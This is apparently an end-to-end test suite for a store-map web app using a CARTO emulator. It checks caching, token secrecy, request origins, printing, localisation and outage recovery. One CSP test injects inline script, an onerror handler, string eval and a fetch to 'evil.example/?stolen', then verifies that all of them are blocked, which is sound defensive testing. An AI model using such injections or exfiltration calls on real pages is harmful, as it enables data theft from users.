/** The stores' map: when and from where code and data come, what is seen, what CARTO is asked. */
import { expect } from "@std/expect";
import { afterAll, beforeAll, describe, it } from "@std/testing/bdd";
import type { Browser, Page } from "playwright-core";
import { MAP_FILES_LIST, mapScripts, openMapFiles } from "../../lib/assets/map_files.ts";
import {
  openPageScripts,
  PAGE_SCRIPTS_FILE,
  scriptsAtOnce,
} from "../../lib/assets/page_scripts.ts";
import { freePort, makeDataDir, type RunningApp, startApp } from "../helpers/app.ts";
import { launchBrowser, openMap, signIn, type Watched, watchedPage } from "../helpers/browser.ts";
import { requestToken, signInCookie } from "../helpers/client.ts";
import { addUser, type Cloud, countStores, startCloud } from "../helpers/cloud.ts";
import { recordTiles } from "../helpers/embedding.ts";
import { painted, STORES_PATH, storesInView, TWO_MAPS } from "../helpers/map_page.ts";
import type { Spot } from "../helpers/pixels.ts";

const USERS = {
  BOSTON: { username: "ann@acme.com", group: "BOSTON", password: "a long pass phrase" },
  "NEW YORK": { username: "bob@acme.com", group: "NEW YORK", password: "another pass phrase" },
} as const;
const BOSTON = [USERS.BOSTON.username, USERS.BOSTON.password] as const;

const MAP_FILES = new URL(`../../static/${MAP_FILES_LIST}`, import.meta.url);
const PAGE_SCRIPTS = new URL(`../../${PAGE_SCRIPTS_FILE}`, import.meta.url);
/** Wide enough for a panel beside the map. */
const SMALL = { viewport: { width: 800, height: 480 }, drawsMaps: "layers" } as const;

let browser: Browser;
let cloud: Cloud;
let app: RunningApp;
let dataDir: string;
/** BOSTON's stores, and how many requests it took to count them. */
let stores: number;
let requestsOfTest: number;
/** Paths of all the map's code. */
let code: string[];
const embeddedCartoPort = freePort();

beforeAll(async () => {
  const files = await openMapFiles(MAP_FILES);
  code = [...mapScripts(files), "/map/map.css", files.worker.path, files.style];
  dataDir = await makeDataDir();
  for (const user of Object.values(USERS)) await addUser(dataDir, user);
  [browser, cloud] = await Promise.all([launchBrowser(), startCloud()]);
  stores = await countStores(cloud.emulator, "BOSTON");
  requestsOfTest = cloud.emulator.requests.length;
  app = await startApp({
    environment: {
      ...cloud.environment,
      ...TWO_MAPS,
      BASEMAP: "offline",
      EMULATOR_PORT: String(embeddedCartoPort),
    },
    dataDir,
  });
});
afterAll(async () => {
  await browser.close();
  await app.stop();
  await cloud[Symbol.asyncDispose]();
  await Deno.remove(dataDir, { recursive: true });
});

/** Runs in the browser: notes what the policy forbids, in the page and in its workers. */
function countViolations(): void {
  const violations: string[] = [];
  Reflect.set(globalThis, "violations", violations);
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    violations.push(`${effectiveDirective} ${blockedURI}`);
  });
}

const violationsOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => Reflect.get(globalThis, "violations"));

describe("an app with another CARTO", () => {
  it("runs without the embedded one", async () => {
    await expect(fetch(`http://localhost:${embeddedCartoPort}/`)).rejects.toThrow(TypeError);
    expect(app.output()).not.toContain("Demo account");
  });
});

interface Loaded {
  readonly path: string;
  /** Bytes that came over the network, headers among them. */
  readonly transferred: number;
}

/** Scripts and style sheets of ours that the page has asked for. */
const loaded = (page: Page): Promise<Loaded[]> =>
  page.evaluate(() =>
    performance.getEntriesByType("resource").flatMap((entry) => {
      if (!(entry instanceof PerformanceResourceTiming)) return [];
      const { origin, pathname } = new URL(entry.name);
      if (origin !== location.origin || !/\.(js|css)$/.test(pathname)) return [];
      return [{ path: pathname, transferred: entry.transferSize }];
    })
  );

describe("a page without a map", () => {
  it("is seen by what it has itself: it waits for no style sheet", async () => {
    const { page, context, complaints } = await watchedPage(browser);
    // All else that it asks for is refused.
    await page.route("**/*", (route) => {
      return route.request().isNavigationRequest() ? route.continue() : route.abort();
    });
    for (const path of ["/login", "/nothing"]) {
      await page.goto(`${app.origin}${path}`);
      const ground = await page.locator(".card")
        .evaluate((card) => getComputedStyle(card).backgroundColor);
      expect([path, ground]).toEqual([path, "rgb(255, 255, 255)"]);
    }
    await context.close();
    expect(complaints.filter((one) => /Content.Security.Policy/i.test(one))).toEqual([]);
  });
});

describe("a visit", () => {
  let watched: Watched;
  let page: Page;
  let atSignIn: { readonly scripts: number; readonly paths: readonly string[] };
  let token: string;
  let spots: Spot[];
  let shown: number;
  let tiles: Promise<string>[];
  beforeAll(async () => {
    watched = await watchedPage(browser, { reducedMotion: "no-preference" });
    page = watched.page;
    await page.addInitScript(countViolations);
    tiles = recordTiles(page);
    await page.goto(`${app.origin}/login`, { waitUntil: "networkidle" });
    atSignIn = {
      scripts: await page.evaluate(() => document.scripts.length),
      paths: (await loaded(page)).map(({ path }) => path),
    };
    const answer = page.waitForResponse((response) =>
      new URL(response.url()).pathname === "/api/carto-token"
    );
    shown = await openMap(page, app.origin, ...BOSTON);
    ({ token } = await (await answer).json());
    spots = await painted(page);
  });
  afterAll(() => watched.context.close());

  it("has its code while the person signs in, on a page that runs one small script", () => {
    expect(atSignIn.scripts).toBe(1);
    expect(atSignIn.paths).toEqual(expect.arrayContaining(code));
  });

  it("has its code when the map's page opens: nothing of it comes a second time", async () => {
    const files = await loaded(page);
    // What is small of the rest is not named ahead.
    const scripts = await openPageScripts(PAGE_SCRIPTS);
    const named = [...code, ...scriptsAtOnce(scripts, "OwnMap", "en"), ...scripts?.later ?? []];
    const again = files.filter(({ path, transferred }) => named.includes(path) && transferred > 0);
    expect(again).toEqual([]);
    const paths = files.map(({ path }) => path);
    expect(paths).toEqual(expect.arrayContaining(code.filter((path) => path !== code.at(-2))));
    expect(paths.some((path) => path.startsWith("/_fresh/"))).toBe(true);
    expect(watched.complaints).toEqual([]);
  });

  it("asks CARTO for the map's data once, to which the page connects ahead", async () => {
    const { requests } = watched;
    await page.waitForLoadState("networkidle");
    const asked = requests.filter((url) => new URL(url).pathname.startsWith("/v3/maps/"));
    const preconnects = await page.locator('link[rel="preconnect"]').evaluateAll((links) =>
      links.map((link) => link.getAttribute("href"))
    );
    expect(preconnects).toEqual([...new Set(asked.map((url) => new URL(url).origin))]);
    const tiles = asked.filter((url) => /\/query\/\d+\/\d+\/\d+\?/.test(url));
    // None where the server was ahead (first_map_test.ts).
    expect([0, 2]).toContain(asked.length - tiles.length);
    expect(tiles.length).toBeGreaterThan(2);
    expect(new Set(tiles).size).toBe(tiles.length);
    // None of all the world, where a map is before it knows where to begin.
    const zooms = tiles.map((url) => Number(/\/query\/(\d+)\//.exec(url)?.[1]));
    expect(Math.min(...zooms)).toBeGreaterThan(5);
  });

  // maps_test.ts looks at those of the other group.
  it("shows BOSTON its stores, all of them and no other's", async () => {
    expect(shown).toBe(stores);
    const texts = await Promise.all(tiles);
    expect(texts.join("")).toContain("BOSTON");
    for (const text of texts) expect(text).not.toContain("NEW YORK");
  });

  it("loads from the app and CARTO, and from nowhere else", () => {
    const origins = new Set(watched.requests.map((url) => new URL(url).origin));
    expect([...origins].sort()).toEqual([app.origin, cloud.emulator.apiBaseUrl].sort());
  });

  it("asks for its token once", () => {
    const paths = watched.requests.map((url) => new URL(url).pathname);
    expect(paths.filter((path) => path === "/api/carto-token")).toHaveLength(1);
  });

  it("keeps its token out of the address, the storage and the document", async () => {
    const kept = await page.evaluate(() =>
      [
        location.href,
        document.cookie,
        document.documentElement.outerHTML,
        JSON.stringify({ ...localStorage, ...sessionStorage }),
      ].join("\n")
    );
    expect(token).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/);
    expect(kept).not.toContain(token);
  });

  /** By the policy for content. */
  async function expectNothingForbidden(): Promise<void> {
    const fonts = await page.evaluate(async () =>
      [...await document.fonts.ready].map(({ family, status }) => `${family}: ${status}`)
    );
    expect(fonts).toEqual(["Inter Subset: loaded"]);
    expect(await violationsOf(page)).toEqual([]);
    expect(watched.complaints).toEqual([]);
  }

  it(
    "lets the light map draw, its workers, fonts and icons with it, and forbids nothing of it",
    expectNothingForbidden,
  );

  it("tells a store's facts where the pointer is, and all of them in its card", async () => {
    const [spot] = spots;
    expect(spot).toBeDefined();
    await page.mouse.move((spot?.x ?? 0) - 1, spot?.y ?? 0);
    await page.mouse.move(spot?.x ?? 0, spot?.y ?? 0, { steps: 3 });
    const tooltip = page.getByRole("tooltip");
    await tooltip.waitFor();
    const facts =
      /Store type\s+(Supermarket|Discount store|Hypermarket|Drugstore).*Revenue\s+\$[\d,]+/s;
    expect(await tooltip.innerText()).toMatch(facts);
    await page.mouse.click(spot?.x ?? 0, spot?.y ?? 0);
    const card = page.getByRole("region", { name: "Selected feature" });
    await card.waitFor();
    const text = await card.innerText();
    expect(text).toMatch(facts);
    expect(text).toMatch(/BOSTON, MA \d{5}/);
    expect(text).toMatch(/Floor area\s+[\d,]+\sm²/);
  });

  it("lets the dark map draw, its workers, fonts and icons with it, and forbids nothing of it", async () => {
    await page.emulateMedia({ colorScheme: "dark" });
    await painted(page, page, "dark");
    await expectNothingForbidden();
  });

  it("prints the map from the dark in light colors, with its legend, on one page", async () => {
    await page.emulateMedia({ colorScheme: "dark" });
    await page.evaluate(() => {
      globalThis.print = () => {
        dispatchEvent(new Event("beforeprint"));
        const canvas = document.querySelector<HTMLCanvasElement>(".printed-map canvas");
        const { width = 1, height = 1 } = canvas ?? {};
        const pixels = canvas?.getContext("2d")?.getImageData(0, 0, width, height).data ?? [];
        let dark = 0;
        for (let at = 0; at < pixels.length; at += 4) if ((pixels[at] ?? 0) < 128) dark++;
        document.body.dataset.dark = String(dark / (pixels.length / 4));
        dispatchEvent(new Event("afterprint"));
      };
    });
    await page.locator(".map-canvas canvas").first().focus();
    await page.keyboard.press("Control+p");
    await page.waitForFunction(() => document.body.dataset.dark !== undefined);
    expect(Number(await page.locator("body").getAttribute("data-dark"))).toBeLessThan(0.1);
    for (
      const [landscape, format] of [[false, "Letter"], [true, "Letter"], [true, "A4"]] as const
    ) {
      const pdf = new TextDecoder("latin1").decode(await page.pdf({ format, landscape }));
      expect([format, landscape, pdf.match(/\/Count (\d+)/)?.[1]]).toEqual([
        format,
        landscape,
        "1",
      ]);
    }
    await page.emulateMedia({ colorScheme: "light" });
  });

  it("gives the browser nothing to complain about", () => {
    expect(watched.complaints).toEqual([]);
  });

  it("forbids what was not there when the page was made", async () => {
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "globalThis.ran = true";
      document.body.append(script);
      const image = document.createElement("img");
      image.src = URL.createObjectURL(new Blob(["x"], { type: "image/png" }));
      image.setAttribute("onerror", "globalThis.ran = true");
      document.body.append(image);
      // What a debugger evaluates may evaluate more; a timer's text may not.
      Reflect.apply(setTimeout, globalThis, ["globalThis.ran = true"]);
      return fetch("https://evil.example/?stolen").catch(() => undefined);
    });
    await page.waitForFunction(() => Reflect.get(globalThis, "violations").length >= 5);
    expect(new Set(await violationsOf(page))).toEqual(
      new Set([
        "script-src-elem inline",
        "script-src-attr inline",
        "script-src eval",
        "img-src blob",
        "connect-src https://evil.example/?stolen",
      ]),
    );
    expect(await page.evaluate(() => Reflect.get(globalThis, "ran"))).toBeUndefined();
  });
});

describe("the map's code that does not arrive", () => {
  // CARTO's client is what the figures need, the rest is what draws.
  for (const part of ["source", "view"] as const) {
    it(`is reported as an outage, and the page reloads once it arrives: ${part}`, async () => {
      const { page, context } = await watchedPage(browser, SMALL);
      const files = await openMapFiles(MAP_FILES);
      const url = app.origin + files[part].path;
      await page.route(url, (route) => route.abort());
      await signIn(page, app.origin, ...BOSTON, STORES_PATH);
      const notice = page.getByRole("alert").getByText("Map data is unavailable right now.");
      await notice.waitFor();
      const reloaded = page.waitForEvent("load");
      await page.unroute(url);
      await reloaded;
      await painted(page);
      await notice.waitFor({ state: "detached" });
      await context.close();
    });
  }
});

describe("what is beside the map", () => {
  /** Opens the stores' map, whose data CARTO keeps back until that is called. */
  async function withoutData(locale: string, search = "?types=Supermarket") {
    const watched = await watchedPage(browser, { locale, drawsMaps: "layers" });
    const { page } = watched;
    await signIn(page, app.origin, ...BOSTON);
    const held = Promise.withResolvers<void>();
    await page.route("**/v3/**", async (route) => {
      await held.promise;
      await route.continue();
    });
    await page.addInitScript(() => {
      const moved: number[] = [];
      Object.assign(globalThis, { moved });
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) {
          // Not what a person has moved.
          if (!Reflect.get(entry, "hadRecentInput")) {
            moved.push(Number(Reflect.get(entry, "value")));
          }
        }
      }).observe({ type: "layout-shift", buffered: true });
    });
    await page.goto(`${app.origin}${STORES_PATH}${search}`);
    await page.locator(".corner-end .tool-group").first().waitFor();
    return { ...watched, release: held.resolve };
  }

  it("comes after all that draws the first feature, and nothing moves as it does", async () => {
    const { page, context, requests, complaints, release } = await withoutData("en");
    const paths = requests.map((url) => new URL(url).pathname);
    // The map's code is asked for at once where the map is the first page.
    const firstData = paths.findIndex((path) => path.startsWith("/v3/"));
    const [asked] = code.slice(-2);
    const before = firstData < 0 ? paths : paths.slice(0, firstData);
    expect(paths.filter((path) => path === "/api/carto-token")).toHaveLength(1);
    expect(before).toEqual(expect.arrayContaining(code.filter((path) => path !== asked)));
    const scripts = await openPageScripts(PAGE_SCRIPTS);
    const atOnce = scriptsAtOnce(scripts, "OwnMap", "en");
    const later = paths.findIndex((path) => path.startsWith("/_fresh/") && !atOnce.includes(path));
    const [worker] = code.slice(-2);
    const drawing = [...code.filter((path) => path !== worker), "/api/carto-token"];
    expect(paths.slice(0, later)).toEqual(expect.arrayContaining(drawing));
    // It is alive, with all that the link says, before there is any data.
    await page.getByRole("button", { name: /Remove filter/ }).waitFor();
    await page.locator(".layers-head").click();
    expect(await page.locator(".layers-head").getAttribute("aria-expanded")).toBe("false");
    await page.locator(".layers-head").click();
    expect(await page.evaluate(() => Reflect.get(globalThis, "moved"))).toEqual([]);
    release();
    await painted(page);
    await page.getByRole("button", { name: /Remove filter/ }).click();
    await page.waitForURL((url) => url.search === "");
    await page.getByRole("button", { name: "Table", exact: true }).click();
    await page.locator(".dock tbody tr").first().waitFor();
    expect(complaints).toEqual([]);
    await context.close();
  });

  it("speaks one language, of which alone the words are loaded, and goes to late data", async () => {
    const { page, context, requests, release } = await withoutData("es", "");
    const { words } = await openPageScripts(PAGE_SCRIPTS) ?? {};
    const paths = requests.map((url) => new URL(url).pathname);
    expect(paths).toContain(words?.es);
    expect(paths).not.toContain(words?.en);
    expect(await page.locator(".layers-head").innerText()).toBe("Capas");
    // Where the map goes is known only with the data: its address stays as it was.
    await page.waitForTimeout(600);
    release();
    await storesInView(page);
    await painted(page);
    await page.locator(".map-progress").waitFor({ state: "detached" });
    expect(page.url()).toBe(app.origin + STORES_PATH);
    await page.locator(".map-canvas canvas").first().press("ArrowRight");
    await page.waitForURL(/\?lat=4\d\./);
    await context.close();
  });
});

describe("many visits of one user and one of another", () => {
  it("cost CARTO one OAuth token and two API tokens", async () => {
    // What a page asks of the app, as the visit above has shown.
    const visits = [...Array.from({ length: 10 }, () => "BOSTON" as const), "NEW YORK" as const];
    for (const city of visits) {
      const { username, password } = USERS[city];
      const cookie = await signInCookie(app.origin, username, password);
      const page = await fetch(`${app.origin}${STORES_PATH}`, { headers: { cookie } });
      expect([page.status, await page.text()]).toEqual([200, expect.stringContaining("<main")]);
      const answer = await requestToken(app.origin, cookie);
      expect([answer.status, await answer.text()]).toEqual([200, expect.stringContaining("ey")]);
    }
    const posts = (path: string) =>
      cloud.emulator.requests.slice(requestsOfTest).filter((r) =>
        r.method === "POST" && r.path === path
      ).length;
    expect(posts("/oauth/token")).toBe(1);
    expect(posts("/v3/tokens")).toBe(2);
  });
});

describe("while CARTO is down", () => {
  it("the page says so, keeps the session, and recovers by itself", async () => {
    const port = String(freePort());
    const { port: otherPort } = new URL(cloud.emulator.apiBaseUrl);
    const environment = Object.fromEntries(
      Object.entries({ ...cloud.environment, ...TWO_MAPS })
        .map(([name, value]) => [name, value.replace(`:${otherPort}`, `:${port}`)]),
    );
    const folder = await makeDataDir();
    await addUser(folder, USERS.BOSTON);
    const other = await startApp({ environment, dataDir: folder });

    const watched = await watchedPage(browser, { drawsMaps: false });
    const { page } = watched;
    await signIn(page, other.origin, ...BOSTON, STORES_PATH);
    const notice = page.getByRole("alert").getByText("Map data is unavailable right now.");
    await notice.waitFor();

    const late = await startCloud(Number(port));
    expect(await storesInView(page)).toBe(await countStores(late.emulator, "BOSTON"));
    await notice.waitFor({ state: "detached" });

    await watched.context.close();
    await other.stop();
    await late[Symbol.asyncDispose]();
    await Deno.remove(folder, { recursive: true });
  });
});
